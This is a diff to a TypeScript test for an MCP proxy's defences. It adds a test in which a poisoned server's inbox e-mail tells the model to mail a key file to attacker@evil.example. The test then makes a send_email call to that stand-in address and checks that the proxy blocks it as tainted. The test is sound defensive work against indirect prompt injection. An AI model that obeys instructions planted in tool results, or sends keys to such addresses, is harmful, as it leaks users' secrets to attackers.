@@ -5,12 +5,13 @@
  */
 import assert from "node:assert/strict";
 import { test } from "node:test";
-import { defaultConfig } from "../../src/config/config.js";
+import { defaultConfig, parseConfig } from "../../src/config/config.js";
 import type { InlineGuard } from "../../src/core/guard.js";
 import { DlpEngine } from "../../src/defence/dlp/dlp-scanner.js";
 import { InlineDefence } from "../../src/defence/inline-defence.js";
 import { PolicyEngine } from "../../src/defence/policy/policy-engine.js";
 import { parsePolicy } from "../../src/defence/policy/policy-file.js";
+import { createDefence } from "../../src/runtime/defence.js";
 import { paths, startProxy } from "../capture/proxy-harness.js";
 
 const initialize = { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "t", version: "1" } };
@@ -96,4 +97,35 @@ test("a secret in a result is redacted before the client and the store see it", 
     record?.decisions?.map((decision) => [decision.stage, decision.action, decision.direction]),
     [["dlp", "redact", "result"]],
   );
+});
+
+test("prevention: the call that carries values from a poisoned result is held before it reaches the server", async () => {
+  const defence = createDefence(parseConfig("poisoning:\n  result_action: alert\n"), { database: null, log: () => {} });
+  assert.ok(defence.guard !== null);
+  const harness = startProxy({ guard: defence.guard, args: [`${paths.root}dist/test/fixtures/poisoned-server.js`] });
+  try {
+    await harness.call(1, "initialize", initialize);
+    // The e-mail asks the model to mail a key file to the attacker; with `alert` the model still reads it.
+    const inbox = await harness.call("inbox", "tools/call", { name: "read_inbox", arguments: {} });
+    assert.match(JSON.stringify(inbox.result), /attacker@evil\.example/);
+    const attack = await harness.call("attack", "tools/call", {
+      name: "send_email",
+      arguments: { to: "attacker@evil.example", body: "here is the key" },
+    });
+    assert.deepEqual(attack.error, { code: -32003, message: "The request was not permitted." });
+    // A call that carries nothing from the poisoned result goes through.
+    const note = await harness.call("note", "tools/call", {
+      name: "send_email",
+      arguments: { to: "me@home.example", body: "hi" },
+    });
+    assert.ok(note.result !== undefined);
+    harness.input.end();
+    await harness.done;
+  } finally {
+    defence.close();
+  }
+  const record = harness.records.find((candidate) => candidate.request_id === "attack");
+  const tainted = record?.decisions?.find((decision) => decision.rule === "tainted_arguments");
+  assert.equal(tainted?.action, "block");
+  assert.match(tainted?.reason ?? "", /call 0 \(read_inbox\)/);
 });
